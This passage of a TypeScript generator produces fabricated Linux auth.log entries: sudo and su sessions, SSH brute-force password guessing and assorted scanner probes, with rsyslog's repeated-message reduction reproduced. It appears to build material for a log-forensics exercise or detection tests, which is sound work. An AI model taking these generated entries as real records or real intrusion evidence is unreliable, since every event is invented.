            [when, 'sudo', `pam_unix(sudo:session): session opened for user root by ${user}(uid=0)`],
          );
          if (!command.startsWith('/sbin/shutdown'))
            lines.push([when + random.int(1, 40), 'sudo', 'pam_unix(sudo:session): session closed for user root']);
        }
        if (options.su !== undefined) {
          const when = start + options.su;
          const su = `su[${suPid}]`;
          lines.push(
            [
              when,
              'sudo',
              `${user.padStart(9)} : TTY=${tty} ; PWD=/home/${user} ; USER=root ; COMMAND=/bin/su - svc-scan`,
            ],
            [when, 'sudo', `pam_unix(sudo:session): session opened for user root by ${user}(uid=0)`],
            [when, su, 'Successful su for svc-scan by root'],
            [when, su, `+ /dev/${tty} root:svc-scan`],
            [when, su, `pam_unix(su:session): session opened for user svc-scan by ${user}(uid=0)`],
            [when + 40, su, 'pam_unix(su:session): session closed for user svc-scan'],
            [when + 40, 'sudo', 'pam_unix(sudo:session): session closed for user root'],
          );
        }
        const end = start + length;
        if (options.sudo?.some(([, command]) => command.startsWith('/sbin/shutdown'))) return lines;
        lines.push(
          [end, `sshd[${child}]`, `Received disconnect from ${from} port ${clientPort}:11: disconnected by user`],
          [end, `sshd[${child}]`, `Disconnected from user ${user} ${from} port ${clientPort}`],
          [end, sshd, `pam_unix(sshd:session): session closed for user ${user}`],
        );
        if (!options.lingering) lines.push([end, LOGIND, `Removed session ${sessionId}.`]);
        return lines;
      },
    };
  }

  /**
   * One connection in which wrong passwords are tried at `times`. sshd allows six (MaxAuthTries 6);
   * pam_unix logs the first failure and sums up the others when the connection ends.
   */
  function guessConnection(from: string, user: string, valid: boolean, times: Time[]): Episode {
    const clientPort = port();
    const first = times[0]!;
    const last = times[times.length - 1]!;
    const count = times.length;
    const who = valid ? user : `invalid user ${user}`;
    const rhost = `logname= uid=0 euid=0 tty=ssh ruser= rhost=${from}${valid ? `  user=${user}` : ''}`;
    return {
      start: first - 2,
      pids: 1,
      session: false,
      build: ([pidOf]) => {
        const sshd = `sshd[${pidOf}]`;
        const lines: Draft[] = [];
        if (!valid)
          lines.push(
            [first - 2, sshd, `Invalid user ${user} from ${from} port ${clientPort}`],
            [first - 2, sshd, `input_userauth_request: invalid user ${user} [preauth]`],
          );
        times.forEach((time, index) => {
          if (!valid) lines.push([time - 2, sshd, 'pam_unix(sshd:auth): check pass; user unknown']);
          if (index === 0) lines.push([time - 2, sshd, `pam_unix(sshd:auth): authentication failure; ${rhost}`]);
          lines.push([time, sshd, `Failed password for ${who} from ${from} port ${clientPort} ssh2`]);
        });
        if (count >= 6)
          lines.push(
            [
              last,
              sshd,
              `error: maximum authentication attempts exceeded for ${who} from ${from} port ${clientPort} ssh2 [preauth]`,
            ],
            [last, sshd, 'Disconnecting: Too many authentication failures [preauth]'],
          );
        else lines.push([last + 1, sshd, `Connection closed by ${from} port ${clientPort} [preauth]`]);
        const end = count >= 6 ? last : last + 1;
        if (count > 1)
          lines.push([end, sshd, `PAM ${count - 1} more authentication failure${count > 2 ? 's' : ''}; ${rhost}`]);
        if (count > 3) lines.push([end, sshd, `PAM service(sshd) ignoring max retries; ${count} > 3`]);
        return lines;
      },
    };
  }

  function single(start: Time, message: (clientPort: number) => string[]): Episode {
    const clientPort = port();
    return {
      start,
      pids: 1,
      session: false,
      build: ([pidOf]) =>
        message(clientPort).map((text, index): Draft => [start + (index > 0 ? 1 : 0), `sshd[${pidOf}]`, text]),
    };
  }

  /** A port scan: the connection closes without a word. */
  function noIdentification(from: string, start: Time): Episode {
    return single(start, (clientPort) => [`Did not receive identification string from ${from} port ${clientPort}`]);
  }

  /** A version probe: the client reads the banner and hangs up. */
  function closedBeforeAuth(from: string, start: Time): Episode {
    return single(start, (clientPort) => [`Connection closed by ${from} port ${clientPort} [preauth]`]);
  }

  /** A scanner that asks for a default user name and leaves without trying a password. */
  function invalidUserProbe(from: string, start: Time): Episode {
    const user = random.pick(PROBE_USERS);
    return single(start, (clientPort) => [
      `Invalid user ${user} from ${from} port ${clientPort}`,
      `input_userauth_request: invalid user ${user} [preauth]`,
      `Received disconnect from ${from} port ${clientPort}:11: Bye Bye [preauth]`,
      `Disconnected from ${from} port ${clientPort} [preauth]`,
    ]);
  }

  /** A web scanner that speaks HTTP to port 22. */
  function httpOnSsh(from: string, start: Time): Episode {
    return single(start, (clientPort) => [
      `Bad protocol version identification 'GET / HTTP/1.1' from ${from} port ${clientPort}`,
    ]);
  }

  /** An old scanner whose key exchange algorithms the server refuses. */
  function oldKeyExchange(from: string, start: Time): Episode {
    return single(start, (clientPort) => [
      `Unable to negotiate with ${from} port ${clientPort}: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1,diffie-hellman-group14-sha1 [preauth]`,
    ]);
  }

  /** A research scanner that says goodbye. */
  function politeProbe(from: string, start: Time): Episode {
    return single(start, (clientPort) => [
      `Received disconnect from ${from} port ${clientPort}:11: Normal Shutdown, Thank you for playing [preauth]`,
      `Disconnected from ${from} port ${clientPort} [preauth]`,
    ]);
  }
};

/**
 * What rsyslog does with $RepeatedMsgReduction on (Ubuntu's default): a message identical to the one
 * just written (same program, pid and text) is not written again; when a different message arrives,
 * "message repeated N times: [ text]" is written first, with the time of the last repeat.
 */
function reduceRepeats(lines: Draft[]): Draft[] {
  const reduced: Draft[] = [];
  let previous: Draft | undefined;
  let repeats = 0;
  let lastRepeat = 0;
  const flush = () => {
    // rsyslog writes a single repeat as the message itself (ratelimit.c), two or more as a summary.
    if (previous && repeats === 1) reduced.push([lastRepeat, previous[1], previous[2]]);
    else if (previous && repeats > 1)
      reduced.push([lastRepeat, previous[1], `message repeated ${repeats} times: [ ${previous[2]}]`]);
    repeats = 0;
  };
  for (const line of lines) {
    if (previous && line[1] === previous[1] && line[2] === previous[2]) {
      repeats++;
      lastRepeat = line[0];
      continue;
    }
    flush();
    reduced.push(line);
    previous = line;
  }
  flush();
  return reduced;
}

function sha256(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}

export default generate;
